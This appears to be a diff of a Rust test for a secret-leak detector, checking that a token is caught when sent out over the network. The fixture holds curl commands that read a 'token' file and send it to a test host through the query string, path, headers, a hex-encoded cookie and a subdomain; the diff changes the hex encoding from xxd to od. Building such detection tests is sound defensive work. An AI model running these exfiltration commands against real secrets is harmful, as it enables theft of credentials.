@@ -64,7 +64,7 @@ async fn a_secret_is_found_in_query_path_header_and_name(run: Run) -> redroom::R
             r#"curl -sS -o /dev/null "https://t.redroom.test/?q=$(printf 'id:%s;' "$(cat token)" | base64)"
                curl -sS -o /dev/null "http://t.redroom.test/$(cat token | tr A-Z a-z)"
                curl -sS -o /dev/null -H "x-note: $(cat token)" https://t.redroom.test/
-               curl -sS -o /dev/null -H "cookie: a=$(xxd -p token)" https://t.redroom.test/
+               curl -sS -o /dev/null -H "cookie: a=$(od -An -v -tx1 token | tr -d ' \n')" https://t.redroom.test/
                curl -sS -o /dev/null "https://$(cat token).t.redroom.test/""#,
         )
         .await?;
